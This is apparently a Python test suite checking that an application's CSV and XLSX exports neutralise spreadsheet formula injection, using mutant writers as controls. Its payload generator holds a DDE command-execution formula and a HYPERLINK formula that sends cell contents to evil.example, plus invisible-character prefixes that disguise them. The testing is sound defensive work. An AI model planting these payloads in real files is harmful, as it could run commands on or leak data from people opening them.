"""G25, the part about files: 200 formula payloads, and no cell that a spreadsheet would run."""

from __future__ import annotations

import csv
import io
import re
import unicodedata
import zipfile
from datetime import UTC, datetime
from itertools import product
from xml.sax.saxutils import unescape

import xlsxwriter

from app.kit import csv_text
from app.kit.workbook import MOST_TEXT, workbook
from app.standards.htcds import sheet_file
from app.standards.htcds.book import Book
from app.standards.htcds.rows import rows_of
from policies.load import load_policies

STARTS = ("=", "+", "-", "@", "|", "%", "\t=", "\r=", "\n=", "\uff1d", "\uff0b", "\uff0d", "\uff20", "\uff5c")
HIDES = (
    "", " ", "\ufeff", "\u200b", "\u200e", "\u2060", "\x00", "\x1f", "\u00a0", "\u3000", "\u00ad \ufeff", "'\u200b",
)  # fmt: skip
BODIES = ("cmd|' /C calc'!A0", 'HYPERLINK("https://evil.example/?"&A1,"open")')
# What spreadsheets, on one system or another, skip before they look at the first letter of a cell.
SKIPPED = re.compile(r"^[\s\x00-\x20\x7f-\xa0\u00ad\u200b-\u200f\u2028-\u202f\u205f-\u206f\u3000\ufeff\"]+")
FEWEST = 200


def live(text: str) -> bool:
    """Whether a spreadsheet could take this cell for a formula; written apart from the guard on purpose."""
    seen = SKIPPED.sub("", unicodedata.normalize("NFKC", text))
    return seen[:1] in set("=+-@|%\t\r")


def live_cells(content: bytes) -> int:
    """Cells of a file that are live, read with each separator a spreadsheet may guess."""
    found = 0
    for separator in (",", ";", "\t"):
        for row in csv.reader(io.StringIO(content.decode("utf-8")), delimiter=separator):
            found += sum(live(each) for each in row)
    return found


def live_in_workbook(content: bytes) -> tuple[int, int]:
    """Cells of a workbook that are formulas, links or live text, and how many texts it holds at all."""
    book = zipfile.ZipFile(io.BytesIO(content))
    sheets = [book.read(name).decode() for name in book.namelist() if name.startswith("xl/worksheets/")]
    formulas = sum(len(re.findall(r"<f[ >/]|<hyperlink|t=\"str\"|DDE", each)) for each in sheets)
    shared = book.read("xl/sharedStrings.xml").decode()
    texts = [unescape(each) for each in re.findall(r"<t[^>]*>([^<]*)</t>", shared)]
    parts = [name for name in book.namelist() if "externalLink" in name or "vba" in name.lower()]
    # Texts that are the same are kept once; the cells that hold them are counted.
    cells = sum(each.count('t="s"') for each in sheets)
    return formulas + len(parts) + sum(live(each) for each in texts), cells


def unguarded(value: object) -> str:
    """The mutant: a cell as it came."""
    return str(value)


def payloads() -> list[str]:
    return [hide + start + body for hide, start, body in product(HIDES, STARTS, BODIES)]


def test_no_formula_leaves_in_a_file(monkeypatch: object) -> None:
    attacks = payloads()
    assert len(set(attacks)) >= FEWEST and all(live(attack) for attack in attacks if not attack.startswith("'"))
    guarded = sum(live(csv_text.cell(attack)) for attack in attacks)
    file = csv_text.table(["text"], [[attack] for attack in attacks], "who and when")
    in_file = live_cells(file)
    mutant = sum(live(unguarded(attack)) for attack in attacks)
    assert guarded == 0 and in_file == 0
    assert mutant >= FEWEST
    print(f"GATE g25 live_cells={guarded + in_file} limit=0 n={len(attacks)} mutant={mutant}")


def test_a_line_break_or_a_quote_does_not_end_a_cell() -> None:
    content = csv_text.table(["a", "b"], [['x"\r\n"=1+1', "y,=2"], [None, 5]], "s")
    rows = list(csv.reader(io.StringIO(content.decode("utf-8"))))
    assert rows[0] == ["a", "b"] and rows[2] == ["", "5"] and rows[3] == ["# s"] and len(rows) == 4
    assert "\n" not in rows[1][0] and rows[1][1] == "y,=2"


def test_honest_text_stays_as_it_is() -> None:
    for text in ("TH-2017-7F3K2QXB", "นก ศรีสาย", "မြ သန္တာ", "18+", "0-14", "a=b", "2026-11-23", "ຄຳ", "5"):
        assert csv_text.cell(text) == text


def test_no_formula_leaves_in_a_workbook() -> None:
    attacks = payloads()
    at = datetime(2026, 11, 27, tzinfo=UTC)
    content = workbook({"Table": [["text"], *([attack] for attack in attacks)]}, at)
    found, texts = live_in_workbook(content)
    assert found == 0 and texts >= FEWEST
    assert content == workbook({"Table": [["text"], *([attack] for attack in attacks)]}, at), "the same bytes"
    # The mutant: a library that takes text for what it looks like.
    written = io.BytesIO()
    book = xlsxwriter.Workbook(written, {"in_memory": True})
    sheet = book.add_worksheet()
    for row, attack in enumerate(attacks):
        sheet.write(row, 0, attack)
    book.close()
    mutant, _ = live_in_workbook(written.getvalue())
    assert mutant
    print(f"GATE g25 live_workbook_cells={found} limit=0 n={len(attacks)} mutant={mutant}")


def test_no_formula_leaves_in_a_workbook_of_a_standard() -> None:
    standard = load_policies().standards["htcds-2.0"]
    attacks = payloads()
    said = [{"prs_FirstName": attack, "prs_HomePhone": "+66812345678"} for attack in attacks]
    rows = [rows_of(standard, each["prs_FirstName"], each, {}, {}, {"x_a": each["prs_FirstName"]})[0] for each in said]
    at = datetime(2026, 11, 27, tzinfo=UTC)
    made = [sheet_file.write(Book(standard, "csv"), rows, attacks[:5], ("x_a",), made_at=at)[0] for _ in range(2)]
    found, texts = live_in_workbook(made[0])
    assert found == 0 and texts >= FEWEST
    assert made[0] == made[1], "the same bytes"


def test_a_long_text_is_cut_and_not_left_out() -> None:
    content = workbook({"Table": [["text"], ["x" * (MOST_TEXT + 5)]]}, datetime(2026, 11, 27, tzinfo=UTC))
    shared = zipfile.ZipFile(io.BytesIO(content)).read("xl/sharedStrings.xml").decode()
    assert f">{'x' * MOST_TEXT}<" in shared
